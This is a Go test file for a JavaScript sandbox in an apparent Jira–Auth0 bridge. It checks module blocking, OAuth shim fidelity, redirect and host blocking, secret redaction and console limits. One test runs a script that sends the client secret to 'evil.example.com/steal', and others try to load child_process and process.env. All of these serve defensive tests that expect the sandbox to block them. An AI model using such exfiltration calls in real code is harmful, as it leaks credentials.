package script

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	bridge "github.com/jira-auth0-bridge/bridge"
)

// profileOf runs src and returns its profile as a map; the run must end in profile.
func profileOf(t *testing.T, src string, opts Options) map[string]any {
	t.Helper()
	res := run(t, compileJS(t, src), opts)
	require.Equal(t, KindProfile, res.Outcome, "%+v\nconsole:\n%s", res.Error, consoleText(res))
	var m map[string]any
	require.NoError(t, json.Unmarshal(res.Profile, &m))
	return m
}

func TestRequire(t *testing.T) {
	p := profileOf(t, `function(token, tokenSecret, ctx, cb) {
  var a = new require('oauth').OAuth;
  var b = require('oauth').OAuth;
  var c = new require('oauth');
  var errs = {};
  ['fs', 'process', 'child_process', 'http', './local', 'node:fs'].forEach(function(m) {
    try { require(m); errs[m] = 'loaded'; } catch (e) { errs[m] = e.code + ': ' + e.message; }
  });
  var bad;
  try { require(42); } catch (e) { bad = e.name + ' ' + e.code; }
  cb(null, {user_id: '1', same: a === b && c.OAuth === a, fn: typeof a, errs: errs, bad: bad,
    process: typeof process, buffer: typeof Buffer, global: typeof global, request: typeof require('request')});
}`, runOpts("http://127.0.0.1:1"))
	assert.Equal(t, true, p["same"])
	assert.Equal(t, "function", p["fn"])
	assert.Equal(t, "undefined", p["process"], "goja_nodejs's process copies the environment (docs/fidelity.md, goja)")
	assert.Equal(t, "function", p["buffer"], "Node 22 and 18 have a global Buffer (buffer_global.go)")
	assert.Equal(t, "object", p["global"])
	assert.Equal(t, "function", p["request"])
	assert.Equal(t, "TypeError ERR_INVALID_ARG_TYPE", p["bad"])
	for m, msg := range p["errs"].(map[string]any) {
		assert.True(t, strings.HasPrefix(msg.(string), "MODULE_NOT_FOUND: Cannot find module '"+m+"' (the bridge sandbox provides only 'crypto', 'jsonwebtoken', 'oauth', 'querystring', 'request', 'url' and 'util'"), msg)
	}
}

func TestRequireProcessFailsTheRun(t *testing.T) {
	res := run(t, compileJS(t, `function(a, b, c, cb) { cb(null, {env: require('process').env}); }`), runOpts("http://127.0.0.1:1"))
	require.Equal(t, KindException, res.Outcome)
	assert.Contains(t, res.Error.Message, "Error: Cannot find module 'process'")
}

// TestOAuthConstructorRules: the OAuth constructor's defaults, its check of
// the signature method and _encodeData, as the real oauth@0.10.2 has them
// under node (compared first), then spelled out.
func TestOAuthConstructorRules(t *testing.T) {
	src := `function(token, tokenSecret, ctx, cb) {
  var OAuth = require('oauth').OAuth;
  var o = new OAuth('r', 'a', 'key', 'sec', undefined, undefined, 'HMAC-SHA1');
  var n = new OAuth('r', 'a', 'key', 'sec', '1.0', null, 'PLAINTEXT', 8, {'X': 'y'});
  var thrown;
  try { new OAuth('r', 'a', 'k', 's', '1.0', null, 'MD5'); } catch (e) { thrown = e.message; }
  cb(null, {user_id: '1', cb1: o._authorize_callback, cb2: n._authorize_callback, nonce: o._nonceSize, nonce2: n._nonceSize,
    headers: o._headers, custom: n._headers, thrown: thrown, pk: o._privateKey === undefined, opts: o._clientOptions,
    enc: o._encodeData("a b!'()*"), zero: o._encodeData(0), nul: o._encodeData(null)});
}`
	opts := runOpts("http://127.0.0.1:1")
	// node is the oracle: the real oauth@0.10.2 must end the same way.
	assert.JSONEq(t, nodeRunScript(t, src, opts.Ctx), shimRunScript(t, src, opts))
	// and what that is, spelled out
	p := profileOf(t, src, opts)
	assert.Equal(t, "oob", p["cb1"])
	assert.Nil(t, p["cb2"])
	assert.EqualValues(t, 32, p["nonce"])
	assert.EqualValues(t, 8, p["nonce2"])
	assert.Equal(t, map[string]any{"Accept": "*/*", "Connection": "close", "User-Agent": "Node authentication"}, p["headers"])
	assert.Equal(t, map[string]any{"X": "y"}, p["custom"])
	assert.Equal(t, "Un-supported signature method: MD5", p["thrown"])
	assert.Equal(t, true, p["pk"])
	assert.Equal(t, map[string]any{"requestTokenHttpMethod": "POST", "accessTokenHttpMethod": "POST", "followRedirects": true}, p["opts"])
	assert.Equal(t, "a%20b%21%27%28%29%2A", p["enc"])
	assert.Equal(t, "", p["zero"])
	assert.Equal(t, "", p["nul"])
}

func TestBlockedHost(t *testing.T) {
	srv := fakeJIRA(t, serverAnswers())
	p := profileOf(t, `function(token, tokenSecret, ctx, cb) {
  var OAuth = require('oauth').OAuth;
  var o = new OAuth('', '', 'k', ctx.client_secret, '1.0', null, 'RSA-SHA1');
  var sync = true;
  o.get('https://evil.example.com/steal?k=' + encodeURIComponent(ctx.client_secret), token, tokenSecret, function(err, data) {
    cb(null, {user_id: '1', async: !sync, isError: err instanceof Error, code: err.code, message: err.message, data: data === undefined});
  });
  sync = false;
}`, runOpts(srv.URL))
	assert.Equal(t, true, p["async"], "callbacks are always asynchronous")
	assert.Equal(t, true, p["isError"])
	assert.Equal(t, "EACCES", p["code"])
	assert.Contains(t, p["message"], "evil.example.com:443")
	assert.Contains(t, p["message"], strings.TrimPrefix(srv.URL, "http://"))
}

func TestBlockedRedirect(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://elsewhere.example.net:8080/x", http.StatusFound)
	}))
	defer srv.Close()
	res := run(t, compileJS(t, `function(token, tokenSecret, ctx, cb) {
  var OAuth = require('oauth').OAuth;
  new OAuth('', '', 'k', ctx.client_secret, '1.0', null, 'RSA-SHA1').get('`+srv.URL+`/a', token, tokenSecret, function(err) { cb(err); });
}`), runOpts(srv.URL))
	require.Equal(t, KindCallback, res.Outcome)
	assert.Contains(t, res.Error.Message, "elsewhere.example.net:8080")
	require.Len(t, res.Requests, 2)
	assert.Equal(t, 302, res.Requests[0].Status)
	assert.Contains(t, res.Requests[1].Error, "blocked by the bridge sandbox")
}

func TestSecretsAreRedacted(t *testing.T) {
	srv := fakeJIRA(t, serverAnswers())
	opts := runOpts(srv.URL)
	opts.Secrets = []string{"extra-secret-123"}
	res := run(t, compileJS(t, `function(token, tokenSecret, ctx, cb) {
  console.log(ctx.client_secret);
  console.error('secret is %s', tokenSecret);
  console.info(JSON.stringify({k: ctx.client_secret}));
  console.log('extra-secret-123');
  cb(new Error('key ' + ctx.client_secret + ' / ' + tokenSecret), {});
}`), opts)
	require.Equal(t, KindCallback, res.Outcome)
	all, err := json.Marshal(res)
	require.NoError(t, err)
	for _, secret := range []string{"MII", opts.TokenSecret, "extra-secret-123", "PRIVATE KEY-----\\n"} {
		assert.NotContains(t, string(all), secret)
	}
	assert.Equal(t, "[REDACTED]", strings.TrimSpace(res.Console[0].Text))
	assert.Equal(t, "secret is [REDACTED]", res.Console[1].Text)
	assert.Contains(t, string(all), "[REDACTED]")
}

func TestTimersAndConsole(t *testing.T) {
	res := run(t, compileJS(t, `function(token, tokenSecret, ctx, cb) {
  var order = [];
  var t1 = setTimeout(function() { order.push('never'); }, 5);
  clearTimeout(t1);
  setTimeout(function(a, b) { order.push('t20:' + a + b); }, 20, 'x', 'y');
  setImmediate(function() { order.push('immediate'); });
  var n = 0;
  var iv = setInterval(function() { n++; if (n === 3) { clearInterval(iv); order.push('interval x3'); } }, 1);
  setTimeout(function() {
    console.log('done %d %s %j', 3, 'ok', {a: 1}, 'extra');
    console.debug(new Error('oops').message, null, undefined, [1, 2], function named() {});
    cb(null, {user_id: '1', order: order});
  }, 60);
}`), runOpts("http://127.0.0.1:1"))
	require.Equal(t, KindProfile, res.Outcome, "%+v", res.Error)
	assert.JSONEq(t, `{"user_id":"1","order":["immediate","interval x3","t20:xy"]}`, string(res.Profile))
	assert.Equal(t, []ConsoleLine{
		{Level: "log", Text: `done 3 ok {"a":1} extra`},
		{Level: "debug", Text: `oops null undefined [ 1, 2 ] [Function: named]`}, // Node's util.inspect
	}, res.Console)
}

func TestConsoleIsBounded(t *testing.T) {
	res := run(t, compileJS(t, `function(a, b, c, cb) { for (var i = 0; i < 5000; i++) console.log('line ' + i); cb(null, {user_id: '1'}); }`),
		runOpts("http://127.0.0.1:1"))
	require.Equal(t, KindProfile, res.Outcome)
	assert.Len(t, res.Console, maxConsoleLines+1)
	assert.Contains(t, res.Console[maxConsoleLines].Text, "console output cut")
}

func TestRequestModule(t *testing.T) {
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		got = append(got, r.Method+" "+r.URL.String()+" "+r.Header.Get("Content-Type")+" "+string(body))
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "/json", http.StatusFound)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"ok":true,"path":"`+r.URL.Path+`"}`)
	}))
	defer srv.Close()
	p := profileOf(t, `function(token, tokenSecret, ctx, cb) {
  var request = new require('request');
  request({url: '`+srv.URL+`/redirect', json: true, qs: {a: 'b c'}}, function(err, res, body) {
    if (err) return cb(err);
    request.post({url: '`+srv.URL+`/post', json: {x: 1}}, function(err2, res2, body2) {
      if (err2) return cb(err2);
      request.get('`+srv.URL+`/text', function(err3, res3, body3) {
        if (err3) return cb(err3);
        request('http://not-jira.example.org/', function(err4) {
          cb(null, {user_id: '1', status: res.statusCode, body: body, post: body2.path, text: typeof body3, blocked: err4.code,
            header: res.headers['content-type']});
        });
      });
    });
  });
}`, runOpts(srv.URL))
	assert.EqualValues(t, 200, p["status"])
	assert.Equal(t, map[string]any{"ok": true, "path": "/json"}, p["body"])
	assert.Equal(t, "/post", p["post"])
	assert.Equal(t, "string", p["text"])
	assert.Equal(t, "EACCES", p["blocked"])
	assert.Equal(t, "application/json", p["header"])
	require.Len(t, got, 4)
	assert.Equal(t, "GET /redirect?a=b%20c  ", got[0])
	assert.Equal(t, `POST /post application/json {"x":1}`, got[2])
}

func TestShippedScriptFlavors(t *testing.T) {
	cloudUser := `{"accountId":"5b10a2844c20165700ede21g","accountType":"atlassian","active":true,"avatarUrls":{"48x48":"https://a/48.png"},"displayName":"Mia Krystof","emailAddress":"mia@example.com","groups":{"items":[],"size":3},"key":"","name":"","self":"https://your-domain.atlassian.net/rest/api/3/user?accountId=5b10a2844c20165700ede21g","timeZone":"Australia/Sydney"}`
	cases := []struct {
		name    string
		answers map[string]fakeAnswer
		want    string
	}{
		{"server", serverAnswers(), `{"user_id":"fred","username":"fred","email":"fred@example.com","name":"Fred F. User","groups":{"size":1,"items":[{"name":"jira-users"}]},"picture":"http://jira/a48.png","active":true,"self":"http://jira/rest/api/2/user?username=fred","timezone":"Australia/Sydney","locale":"en_AU"}`},
		{"cloud", map[string]fakeAnswer{
			"/rest/auth/1/session": {body: `{"self":"https://x.atlassian.net/rest/api/latest/user?accountId=5b10","loginInfo":{}}`},
			"/rest/api/2/myself":   {body: cloudUser},
		}, `{"user_id":"5b10a2844c20165700ede21g","email":"mia@example.com","name":"Mia Krystof","groups":{"items":[],"size":3},"picture":"https://a/48.png","active":true,"self":"https://your-domain.atlassian.net/rest/api/3/user?accountId=5b10a2844c20165700ede21g","timezone":"Australia/Sydney"}`},
		{"no avatars", map[string]fakeAnswer{
			"/rest/auth/1/session": {body: `{"name":"fred"}`},
			"/rest/api/2/user":     {body: `{"name":"fred","displayName":"Fred"}`},
		}, `{"user_id":"fred","username":"fred","name":"Fred"}`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			srv := fakeJIRA(t, c.answers)
			res := run(t, shipped(t, srv.URL), runOpts(srv.URL))
			require.Equal(t, KindProfile, res.Outcome, "%+v", res.Error)
			assert.JSONEq(t, c.want, string(res.Profile))
		})
	}
}

func TestShippedScriptFailsCleanly(t *testing.T) {
	cases := []struct {
		name    string
		session fakeAnswer
		message string
	}{
		{"500", fakeAnswer{status: 500, body: `{"errorMessages":["boom"]}`}, "JIRA /rest/auth/1/session failed: HTTP 500"},
		{"401", fakeAnswer{status: 401, body: `{"errorMessages":["You are not authenticated."]}`}, "HTTP 401"},
		{"HTML proxy page", fakeAnswer{body: "<html><body>Proxy login</body></html>", ctype: "text/html"}, "returned invalid JSON"},
		{"truncated JSON", fakeAnswer{body: `{"self":"http://jira/rest","na`}, "returned invalid JSON"},
		{"204", fakeAnswer{status: 204}, "answered HTTP 204 where 200 was expected"},
		{"JSON null", fakeAnswer{body: `null`}, "where a JSON object was expected"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			answers := serverAnswers()
			answers["/rest/auth/1/session"] = c.session
			srv := fakeJIRA(t, answers)
			res := run(t, shipped(t, srv.URL), runOpts(srv.URL))
			require.Equal(t, KindCallback, res.Outcome, "%+v", res.Error)
			assert.Contains(t, res.Error.Message, c.message)
		})
	}
	t.Run("unreachable", func(t *testing.T) {
		res := run(t, shipped(t, "http://127.0.0.1:1"), runOpts("http://127.0.0.1:1"))
		require.Equal(t, KindCallback, res.Outcome, "%+v", res.Error)
		assert.Contains(t, res.Error.Message, "ECONNREFUSED")
		assert.Contains(t, string(res.Error.Value), `"code":"ECONNREFUSED"`)
	})
}

func TestShippedScriptSendsNodeOAuthBytes(t *testing.T) {
	var auth, conn, ua string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth, conn, ua = r.Header.Get("Authorization"), r.Header.Get("Connection"), r.Header.Get("User-Agent")
		_, _ = io.WriteString(w, `{"name":"fred"}`)
	}))
	defer srv.Close()
	run(t, shipped(t, srv.URL), runOpts(srv.URL))
	assert.True(t, strings.HasPrefix(auth, `OAuth oauth_consumer_key="`+bridge.DefaultConsumerKey+`",oauth_nonce="`), auth)
	assert.NotContains(t, auth, ", ")
	assert.NotContains(t, auth, "realm")
	assert.Equal(t, "close", conn)
	assert.Equal(t, "Node authentication", ua)
}

// A relative Location sends node-oauth to localhost:80 (docs/node-oauth.md), where Node
// gets ECONNREFUSED; the shim reports the same without connecting.
func TestRelativeRedirect(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "/other")
		w.WriteHeader(http.StatusFound)
	}))
	defer srv.Close()
	res := run(t, compileJS(t, `function(token, tokenSecret, ctx, cb) {
  var OAuth = require('oauth').OAuth;
  new OAuth('', '', 'k', ctx.client_secret, '1.0', null, 'RSA-SHA1').get('`+srv.URL+`/a', token, tokenSecret, function(err) { cb(err); });
}`), runOpts(srv.URL))
	require.Equal(t, KindCallback, res.Outcome)
	assert.Equal(t, "Error: connect ECONNREFUSED 127.0.0.1:80", res.Error.Message)
	assert.Contains(t, string(res.Error.Value), `"port":80`)
	require.Len(t, res.Requests, 2)
	assert.Equal(t, "/other", res.Requests[1].URL)
	assert.Contains(t, res.Requests[1].Error, "localhost:80")
}
